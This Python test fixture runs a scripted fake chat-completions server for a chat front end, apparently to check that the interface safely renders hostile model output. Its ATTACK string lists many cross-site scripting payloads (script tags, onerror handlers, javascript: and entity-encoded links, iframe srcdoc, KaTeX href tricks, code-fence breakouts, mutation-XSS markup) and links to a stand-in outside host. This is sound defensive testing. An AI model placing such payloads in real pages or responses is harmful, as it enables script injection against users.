"""A server whose answers are known: the real page and microscope, and chat completions that follow a script.

The last user message chooses the script. Beside what a model would say there is what it should not: HTML, links that
run scripts, pictures of other hosts.
"""

from __future__ import annotations

import asyncio
import json
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from typing import Any

import uvicorn
from fastapi import FastAPI, Request, Response
from fastapi.responses import JSONResponse, StreamingResponse

from finback.server import page
from finback.server.ask import AskError
from finback.server.http import refused
from finback.server.openai import error_body
from finback.server.service import Service

ATTACK = """<script>window.hurt = 1</script><img src=x onerror="window.hurt = 2"> <svg onload="window.hurt = 3"></svg>

[run](javascript:window.hurt=4) [data](data:text/html,<script>window.hurt=5</script>) ![picture](http://elsewhere.invalid/x.png?secret)

<iframe srcdoc="<script>parent.hurt = 6</script>"></iframe> <style>body { display: none }</style> <base href="http://elsewhere.invalid/">

<form action="http://elsewhere.invalid/"><button>send</button></form> <a href="java&#115;cript:window.hurt=7">entity</a>

[title](https://example.org/ "\\" onmouseover=window.hurt=8 x=\\"") <https://example.org/"onmouseover="window.hurt=9">

$\\href{javascript:window.hurt=10}{x}$ $$\\htmlData{onclick=window.hurt=11}{y} \\includegraphics{http://elsewhere.invalid/y.png}$$ $\\text{<img src=x onerror=window.hurt=12>}$

```html"><img src=x onerror=window.hurt=13>
</code></pre><script>window.hurt = 14</script><img src=x onerror="window.hurt = 15">
```

```html
<script>window.hurt = 16</script>
```

`<img src=x onerror=window.hurt=17>` <div style="position:fixed;inset:0" onclick="window.hurt=18">over everything</div>

| a | b |
|---|---|
| <img src=x onerror=window.hurt=19> | <details open ontoggle=window.hurt=20> |

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hurt=21&gt;">
"""

CODE = """Here is a function:

```python
def fib(n: int) -> int:
    \"\"\"The n-th Fibonacci number.\"\"\"
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a  # 0, 1, 1, 2, 3
```

It takes `n` steps. In a shell: 

```sh
python -c "print(fib(10))"
```
"""

MATH = """The roots of \\(ax^2 + bx + c\\) are

$$x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$

and $e^{i\\pi} = -1$; this costs $5 and that $6. A matrix and cases:

\\[
A = \\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}, \\quad
f(x) = \\begin{cases} x & x > 0 \\\\ 0 & \\text{otherwise} \\end{cases}
\\]

| $n$ | $\\sum_{i=1}^n i$ |
|----:|:-----------------|
| 1 | 1 |
| 10 | 55 |

1. first, **bold** and *slanted*
2. second with ~~struck~~ text
   - nested
   - [ ] to do
   - [x] done

> A quotation, with a [link](https://example.org).
"""

WEATHER = [("get_weather", '{"city": "Zürich", "days": 2}'), ("get_time", '{"zone": "Europe/Zurich"}')]


def script(body: dict[str, Any]) -> tuple[str, str, list[tuple[str, str]]]:
    """(thoughts, answer, tool calls) for a request."""
    last = body["messages"][-1]
    if last["role"] == "tool":
        results = " and ".join(m["content"] for m in body["messages"] if m["role"] == "tool")
        return "", f"The tools said: {results}.", []
    asked = last["content"]
    thoughts = "" if body["thinking"]["type"] == "disabled" else f"They ask: {asked}. **Let me see.** " + "One step, another step. " * 8
    if "weather" in asked:
        return thoughts, "Let me look.", WEATHER
    if "broken" in asked:
        return thoughts, "", [("get_weather", '{"city": ')]
    if "muse" in asked:
        return thoughts, "", []
    words = {"attack": ATTACK, "code": CODE, "math": MATH, "slow": "word " * 2000, "echo": json.dumps(body)}
    found = next((text for word, text in words.items() if word in asked), f"You said: {asked}")
    return (ATTACK if "attack" in asked and thoughts else thoughts), found, [("<img src=x onerror=window.hurt=22>", ATTACK)] if "attack" in asked else []


def chunks(body: dict[str, Any]) -> Iterator[dict[str, Any]]:
    thoughts, text, calls = script(body)

    def delta(finish: str | None = None, **said: Any) -> dict[str, Any]:
        return {"id": "x", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": said, "finish_reason": finish}]}

    yield delta(role="assistant", content="")
    for at in range(0, len(thoughts), 7):
        yield delta(reasoning_content=thoughts[at : at + 7])
    for at in range(0, len(text), 5):
        yield delta(content=text[at : at + 5])
    for i, (name, arguments) in enumerate(calls):
        yield delta(tool_calls=[{"index": i, "id": f"call_{i}_{len(body['messages'])}", "type": "function", "function": {"name": name, "arguments": ""}}])
        for at in range(0, len(arguments), 6):
            yield delta(tool_calls=[{"index": i, "function": {"arguments": arguments[at : at + 6]}}])
    yield delta("tool_calls" if calls else "stop")
    produced = len(thoughts) // 7 + len(text) // 5 + 1
    usage = {"prompt_tokens": 40, "completion_tokens": produced, "total_tokens": 40 + produced, "prompt_cache_hit_tokens": 32, "prompt_cache_miss_tokens": 8}
    yield {"id": "x", "choices": [], "usage": {**usage, "completion_tokens_details": {"reasoning_tokens": len(thoughts) // 7}}}


def app(service: Service, log: list[dict[str, Any]]) -> FastAPI:
    """log: receives the body of every request for an answer, and "left" when a client leaves a stream."""
    made = FastAPI()
    made.state.service, made.state.error_body = service, error_body
    made.include_router(page.router)
    made.add_exception_handler(AskError, refused)

    @made.get("/models")
    def models() -> dict[str, Any]:
        return {"object": "list", "data": [{"id": name, "object": "model", "thinking": name != "plain"} for name in (*service.models, "plain")]}

    @made.post("/v1/chat/completions")
    async def completions(request: Request) -> Response:
        body = await request.json()
        log.append(body)
        asked = body["messages"][-1]["content"]
        if "refuse" in asked:
            return JSONResponse({"error": {"message": "no <b>room</b>", "type": "overloaded"}}, 503)

        async def events() -> AsyncIterator[str]:
            try:
                yield ": keep-alive\n\n"
                for i, chunk in enumerate(chunks(body)):
                    yield f"data: {json.dumps(chunk)}\n\n"
                    if i == 20 and "cut" in asked:
                        return
                    if i == 20 and "fail" in asked:
                        yield 'data: {"error": {"message": "the engine failed"}}\n\n'
                        return
                    await asyncio.sleep(0.02 if "slow" in asked else 0.001)
                yield "data: [DONE]\n\n"
            except asyncio.CancelledError:
                log.append({"left": asked})
                raise

        return StreamingResponse(events(), media_type="text/event-stream")

    return made


@contextmanager
def running(application: FastAPI) -> Iterator[str]:
    """The address of a server that runs while the context lasts."""
    listening = socket.create_server(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(application, log_level="warning", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    try:
        yield f"http://127.0.0.1:{listening.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join()
